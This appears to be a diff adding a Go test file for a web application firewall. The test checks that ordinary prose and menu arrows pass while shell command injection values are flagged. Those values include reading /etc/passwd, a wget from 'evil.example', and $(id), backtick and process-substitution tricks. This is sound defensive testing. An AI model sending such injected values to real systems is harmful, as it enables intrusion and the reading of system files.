@@ -1,0 +1,91 @@
+package waf
+
+import (
+	"net/url"
+	"testing"
+
+	configv1 "edge.svc/caddy/gen/svc/config/v1"
+)
+
+// exceptedCase is a value that is no attack, or is one, though it resembles others.
+type exceptedCase struct {
+	value  string
+	attack bool
+}
+
+// exceptedCases are the tests of each exception, by its name.
+var exceptedCases = map[string][]exceptedCase{
+	"prose": {
+		{value: "Hello,\nFind attached the invoice"},
+		{value: "Order 123\nCancel my order please"},
+		{value: "desk & wall lamp"},
+		{value: "Buy | Sell | Join now"},
+		{value: "Dear team,\r\n\r\nlook at the new screen and install it.\r\nThanks!\r\nMake sure it works (please)."},
+		{value: "Shopping list:\nMail the letter\nSort the papers; file the rest\nTouch up the wall"},
+		{value: "It is time to find a new place. Watch and join us!"},
+		{value: "Head office\nService desk\nFile 12"},
+		{value: "Nous arrivons.\nSi tu veux, viens avec nous.\nDel resto, nada."},
+		{value: "first line\nUpdate: the 3 orders were sent\nPrint & post"},
+		{value: "Opening times\nMake an appointment\nTel. 030/123456"},
+		{value: "hello\nfind / -name passwd", attack: true},
+		{value: "hello\nfind . -exec id", attack: true},
+		{value: "hello; cat /etc/passwd", attack: true},
+		{value: "hello\nwget evil", attack: true},
+		{value: "Hello,\nFind attached\nwget http://evil.example/x", attack: true},
+		{value: "hello & sort -o x y", attack: true},
+		{value: "a|sort /etc/passwd", attack: true},
+		{value: "x;find${IFS}.", attack: true},
+		{value: "a & sleep 5", attack: true},
+		{value: "time wget evil", attack: true},
+		{value: "cd /\ncd etc\nfold passwd", attack: true},
+		{value: "; make > x", attack: true},
+		{value: "hello\nscript *", attack: true},
+		{value: "Hello,\nFind attached the `id`", attack: true},
+		{value: "Hello,\nFind attached the $(id)", attack: true},
+	},
+	"arrow": {
+		{value: "Menu -> (Settings)"},
+		{value: "File => (Open) => (Recent)"},
+		{value: "if a > (b) or c < (d)"},
+		{value: "cat <(id)", attack: true},
+		{value: "echo a->(id)", attack: true},
+		{value: "x >(tee log)", attack: true},
+		{value: "Menu -> (Settings) >(tee log)", attack: true},
+	},
+}
+
+// A value that is no code of the language that a rule defends is no attack; whatever resembles it is one still.
+func TestExceptions(t *testing.T) {
+	s := settingsOf(t, asIs)
+	for i := range exceptions {
+		e := &exceptions[i]
+		cases := exceptedCases[e.name]
+		if len(cases) == 0 {
+			t.Errorf("%s has no tests", e.name)
+		}
+		for _, c := range cases {
+			body := "message=" + url.QueryEscape(c.value)
+			v := judge(t, s, asked("POST", "/", body, form), body)
+			if (v.score >= s.threshold) != c.attack {
+				t.Errorf("%s: %q: %v", e.name, c.value, v)
+			}
+			if v := judge(t, s, asked("GET", "/?message="+url.QueryEscape(c.value), ""), ""); (v.score >= s.threshold) != c.attack {
+				t.Errorf("%s: %q in a query: %v", e.name, c.value, v)
+			}
+		}
+	}
+}
+
+// Text of an unknown charset, or one that is decoded again, has no exceptions.
+func TestExceptionsAreForTextThatIsDecodedOnce(t *testing.T) {
+	s := settingsOf(t, func(m *configv1.SiteWaf) { m.Charsets = []string{"utf-8", "shift_jis"} })
+	body := "message=" + url.QueryEscape("Hello,\nFind attached the invoice")
+	for contentType, attack := range map[string]bool{
+		"application/x-www-form-urlencoded; charset=utf-8":     false,
+		"application/x-www-form-urlencoded; charset=shift_jis": true,
+	} {
+		if v := judge(t, s, asked("POST", "/", body, "Content-Type: "+contentType), body); (v.score >= s.threshold) != attack {
+			t.Errorf("%s: %v", contentType, v)
+		}
+	}
+}
